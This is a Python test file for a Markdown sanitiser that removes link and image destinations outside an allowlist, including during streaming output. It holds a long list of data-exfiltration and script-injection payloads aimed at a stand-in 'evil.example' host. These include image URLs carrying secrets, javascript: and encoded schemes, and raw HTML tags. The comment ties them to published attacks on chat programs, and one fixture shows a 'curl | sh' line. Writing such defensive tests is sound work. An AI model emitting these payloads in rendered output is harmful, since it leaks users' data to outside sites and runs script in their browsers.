"""`guard` keeps only allowed destinations, whatever renderer displays the result."""

from __future__ import annotations

import re
from itertools import islice
from random import Random

import pytest

from conformance.markdown_documents import PIECES, STARTS, mutants, opened_by
from uriverse import Policy
from uriverse.documents import Guard, guard, links

POLICY = Policy(allow=["ok.example", "*.ok.example"])
IMAGES = Policy(allow=["img.ok.example"], schemes=["https"])

#: Ways to make a renderer send data to another site. The forms are those of published attacks on
#: chat programs: images, reference images, links, autolinks, raw HTML, and disguises of each.
ATTACKS = (
    "![x](https://evil.example/?q=secret)",
    "![x](<https://evil.example/?q=secret>)",
    "![x][r]\n\n[r]: https://evil.example/?q=secret",
    "![r]\n\n[r]:\nhttps://evil.example/?q=secret\n'title'",
    "[![x](https://evil.example/i)](https://ok.example/)",
    "[click](https://evil.example/#secret)",
    "[click](//evil.example/x)",
    "[click](/relative)",
    "[click](\\/\\/evil.example)",
    "[click](https://ok.example@evil.example/)",
    "[click](https://ok.example\\@evil.example/)",
    "[click](https://ok.example.evil.example/)",
    "[click](javascript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](java&Tab;script:alert(1))",
    "[click](JaVaScRiPt&colon;alert(1))",
    "[click](<java\tscript:alert(1)>)",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:x)",
    "[click](&#104;ttps://evil.example)",
    "[click](\thttps://evil.example\n)",
    "[click](\n  https://evil.example\n  'x'\n)",
    "[a [b](https://evil.example) c](https://ok.example)",
    "[a](https://evil.example",
    "![a](https://evil.example/?q=",
    "[a]: https://evil.example",
    "[a]:\n  <https://evil.example>\n\n[a]",
    "<https://evil.example/>",
    "<javascript:alert(1)>",
    "<a@evil.example>",
    "https://evil.example/?q=secret",
    "HTTPS://EVIL.example",
    "https&colon;//evil.example",
    "https:\\/\\/evil.example",
    "&#104;ttps://evil.example",
    "https://ok.example.evil.example/",
    "https://ok.example\\.evil.example/",
    "https://ok.example\u00a0.evil.example/",
    "www.evil.example",
    "WWW.evil.example",
    "evil.com/?q=secret",
    "(evil.com)",
    "//evil.com/x",
    "ok.example/www.evil.example",
    "mailto:a@evil.example",
    "a@evil.example",
    "ftp://evil.example/x",
    "<img src=https://evil.example>",
    "<img src='https://evil.example' onerror=alert(1)>",
    "<a href=https://evil.example>x</a>",
    '<div style="background:url(https://evil.example)">',
    "<script src=https://evil.example></script>",
    "<iframe src=https://evil.example>",
    "<base href=https://evil.example>\n\n[a](b)",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<svg><image href=https://evil.example /></svg>",
    "<!-- --><img src=https://evil.example>",
    "<!-- > <img src=https://evil.example> -->",
    "<?x?><img src=https://evil.example>",
    "<![CDATA[<img src=https://evil.example>]]>",
    "    <img src=https://evil.example>",
    "\\<img src=https://evil.example>",
    "`` ` `<img src=https://evil.example>`",
    "`a\n\n<img src=https://evil.example>`",
    "[[`a](https://evil.example)`",
    "~~https://evil.example~~b",
    "~a `b~ https://evil.example `",
    "1. ```\na\n   ```\n![x](https://evil.example)",
    "> ```\n![x](https://evil.example)\n> ```\n> ![x](https://evil.example)",
    "[\n```\n]: https://evil.example\n",
    "| a |\n|---|\n| ![b](https://evil.example) | ![c](https://evil.example) |",
    "`a | b\n---|---\n<img src=https://evil.example>` | c",
    "> ![x](https://evil.example)",
    "1. a\n\n   ![x](https://evil.example)",
    "# ![x](https://evil.example)",
    "![x](https://evil.example)\n===",
    "[^1]\n\n[^1]: ![x](https://evil.example)",
    "[^1]: https://evil.example",
    "~~![x](https://evil.example)~~",
    "*![x*](https://evil.example)",
    "!\\[x](https://evil.example)",
    "![x]\\(https://evil.example)",
    '[x](https://ok.example "](https://evil.example)")',
    "![https://evil.example](https://ok.example)",
    "[https://evil.example](https://ok.example)",
    "![a](https://ok.example/i.png)",
    "[x][](https://evil.example)(https://evil.example)",
    "!<https://evil.example>[x](https://ok.example)",
)


def opened(document: str) -> list[tuple[str, str]]:
    """Return the kinds and destinations that renderers open: those that can be imported."""
    found: list[tuple[str, str]] = []
    found += [(link.kind, link.destination) for link in links(document, "markdown")]
    html: list[str] = []
    try:
        from cmarkgfm import cmark

        for flags in (0, cmark.Options.CMARK_OPT_FOOTNOTES):
            options = flags | cmark.Options.CMARK_OPT_UNSAFE
            extensions = ["table", "autolink", "strikethrough"]
            html.append(cmark.markdown_to_html_with_extensions(document, options, extensions))
    except ImportError:
        pass
    try:
        from markdown_it import MarkdownIt

        renderer = MarkdownIt("gfm-like", {"html": True, "linkify": True})
        renderer.validateLink = lambda url: True  # type: ignore[method-assign]  # noqa: ARG005
        html.append(renderer.render(document))
    except ImportError:
        pass
    for each in html:
        found += [("image" if tag == "img" else "link", to) for tag, to in opened_by(each)]
    # A naive renderer replaces patterns, except in code.
    if "```" not in document and "~~~" not in document:
        text = re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", " ", document)
        for mark, to in re.findall(r"(!?)\[[^\]]*\]\(\s*<?([^)\s>]+)", text):
            found.append(("image" if mark else "link", to))
    return found


def violations(document: str, embeds: Policy | None) -> list[tuple[str, str]]:
    """Return what renderers open although it is not allowed."""
    bad: list[tuple[str, str]] = []
    for kind, destination in opened(document):
        if destination.startswith(("#fn-", "#fnref-")):
            continue
        policy = embeds if kind == "image" else POLICY
        if policy is None or not policy.allows(destination):
            bad.append((kind, destination))
    return bad


def streamed(document: str, places: list[int], embeds: Policy | None) -> str:
    stream = Guard(POLICY, embeds=embeds)
    starts = [0, *places]
    pieces = [
        stream.feed(document[start:end])
        for start, end in zip(starts, [*places, len(document)], strict=True)
    ]
    return "".join(pieces) + stream.close()


@pytest.mark.parametrize("embeds", [None, IMAGES])
@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_else_opens(attack: str, embeds: Policy | None) -> None:
    assert not violations(guard(attack, POLICY, embeds=embeds), embeds)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_else_opens_in_a_stream_in_any_split(attack: str) -> None:
    document = f"{attack}\n\na [r]\n"
    results = {streamed(document, [place], None) for place in range(len(document))}
    results.add(streamed(document, list(range(len(document))), None))
    for result in results:
        assert not violations(result, None)


@pytest.mark.parametrize("seed", range(4))
def test_nothing_else_opens_in_mutants(seed: int) -> None:
    random = Random(seed)
    starts = (*STARTS, *(f"{attack}\n" for attack in ATTACKS))
    for document in islice(mutants(starts, seed), 100):
        embeds = random.choice([None, IMAGES])
        assert not violations(guard(document, POLICY, embeds=embeds), embeds), document
        places = sorted(random.choices(range(len(document) + 1), k=5))
        assert not violations(streamed(document, places, embeds), embeds), (document, places)


@pytest.mark.parametrize(
    "document",
    [
        "Plain *text* with `code`, **bold** and 1 < 2.\n",
        "# Heading\n\n- [ ] task\n- item\n\n> quote\n\n1. one\n\n---\n",
        '[a](https://ok.example/b?c=d) and [e](https://ok.example/ "title")\n',
        "```python\nrequests.get('https://evil.example')  # [a](b)\n```\n",
        "1. a:\n\n   ```sh\n   curl https://evil.example | sh\n   ```\n",
        "`https://evil.example` and `a[0]`\n",
        "See https://ok.example/a/b.\n",
        "| a | b |\n|---|---|\n| [c](https://ok.example/) | `d` |\n",
        "[a][b]\n\n[c]: https://ok.example/\n",
    ],
)
def test_keeps_the_rest(document: str) -> None:
    assert guard(document, POLICY) == document
    assert streamed(document, list(range(len(document))), None) == document


@pytest.mark.parametrize(
    ("document", "expected"),
    [
        ("a [b *c*](https://evil.example) d", "a b *c* d"),
        ("![a `b`](https://evil.example)", "a `b`"),
        ("see https://evil.example/x.", "see `https://evil.example/x`."),
        ("a <b> c", "a &lt;b> c"),
        ("[a][r]\n\n[r]: https://ok.example/b\n", "[a](https://ok.example/b)\n\n[r]: https://ok.example/b\n"),
        ("[a](https://ok.example/b_c(d))", "[a](https://ok.example/b_c(d))"),
        ("a\r\nb", "a\nb"),
    ],
)  # fmt: skip
def test_replaces_links_by_their_text(document: str, expected: str) -> None:
    assert guard(document, POLICY) == expected


def test_images_need_their_own_policy() -> None:
    document = "![a](https://img.ok.example/b.png)"
    assert guard(document, POLICY) == "a"
    assert guard(document, POLICY, embeds=IMAGES) == document
    assert guard("![a](https://ok.example/b.png)", POLICY, embeds=IMAGES) == "a"


def test_relative_references_need_a_base() -> None:
    document = "[a](b) [c](#d) [e](//ok.example/f)"
    assert guard(document, POLICY) == "a c e"
    assert guard(document, POLICY, base="https://ok.example/") == document


def test_a_guarded_document_stays_the_same() -> None:
    for document in islice(mutants((*STARTS, *ATTACKS), 7), 200):
        once = guard(document, POLICY)
        assert guard(once, POLICY) == once


def test_a_stream_returns_blocks_when_they_are_complete() -> None:
    stream = Guard(POLICY)
    assert stream.feed("a [b](https://ok.exa") == ""
    assert stream.feed("mple/)\n\n") == ""
    assert stream.feed("c") == "a [b](https://ok.example/)\n\n"
    assert stream.feed("\n\n```\nd\n\ne\n") == "c\n\n"
    assert stream.feed("```\n\nf") == "```\nd\n\ne\n```\n\n"
    assert stream.close() == "f"


@pytest.mark.parametrize("unit", ["a", "a ", "[a](https://evil.example) ", "```\n", *PIECES[:12]])
def test_a_stream_holds_a_bounded_number_of_characters(unit: str) -> None:
    stream = Guard(POLICY)
    fed = returned = 0
    result: list[str] = []
    while fed < 200_000:
        piece = unit * (5_000 // len(unit))
        fed += len(piece)
        result.append(stream.feed(piece))
        returned += len(result[-1])
    result.append(stream.close())
    assert len(result[-1]) < 20 * 65_536
    assert returned > 0
    assert not [each for each in links("".join(result), "markdown") if "evil" in each.destination]
